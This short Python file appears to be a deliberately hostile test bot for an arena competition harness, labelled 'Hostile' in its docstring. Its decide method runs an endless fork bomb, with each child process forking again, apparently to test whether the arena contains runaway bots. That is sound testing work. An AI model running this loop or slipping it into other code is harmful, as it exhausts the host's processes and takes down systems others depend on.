"""Hostile: on its first decision, fork-bombs (every child forks too) instead of answering."""
import os
import time

from arena_bot import Bot, run


class ForkBomb(Bot):
    def decide(self, request):
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.001)


run(ForkBomb())
